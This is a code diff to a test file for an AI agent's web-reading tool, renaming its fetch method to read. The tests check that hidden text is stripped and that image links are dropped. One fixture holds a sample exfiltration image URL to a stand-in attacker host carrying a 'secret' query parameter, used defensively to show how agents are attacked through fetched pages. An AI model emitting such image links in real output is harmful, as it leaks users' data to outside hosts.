@@ -33,7 +33,7 @@ test.each([
   `<p>plain${TAGS}</p>`,
 ])("%s", async (hiding) => {
   const { host, url } = await serveSite({ "/": `<html><body><p>seen</p>${hiding}</body></html>` });
-  const { text, title } = await createWebTools({ privateHosts: [host] }).fetch({ url: url("/") });
+  const { text, title } = await createWebTools({ privateHosts: [host] }).read({ url: url("/") });
   expect(text).toContain("seen");
   const shown = [...`${title} ${text}`].map((char) => {
     const code = char.codePointAt(0) ?? 0;
@@ -53,7 +53,7 @@ test.each([
 ])("%s are shown without what works unseen", async (_, body, text) => {
   const headers = { "content-type": "text/plain; charset=utf-8" };
   const { host, url } = await serveSite({ "/": { headers, body } });
-  const page = await createWebTools({ privateHosts: [host] }).fetch({ url: url("/") });
+  const page = await createWebTools({ privateHosts: [host] }).read({ url: url("/") });
   expect(page.text).toBe(text);
 });
 
@@ -61,7 +61,7 @@ test("no picture's address leaves with what an agent shows", async () => {
   const page =
     '<p>seen</p><img src="http://evil.test/?q=secret" alt="a vessel"><p>![x](http://evil.test/)</p>';
   const { host, url } = await serveSite({ "/": page });
-  const { text } = await createWebTools({ privateHosts: [host] }).fetch({ url: url("/") });
+  const { text } = await createWebTools({ privateHosts: [host] }).read({ url: url("/") });
   expect(text).toContain("[picture: a vessel]");
   expect(text).not.toMatch(/!\[[^\]]*\]\(/);
 });
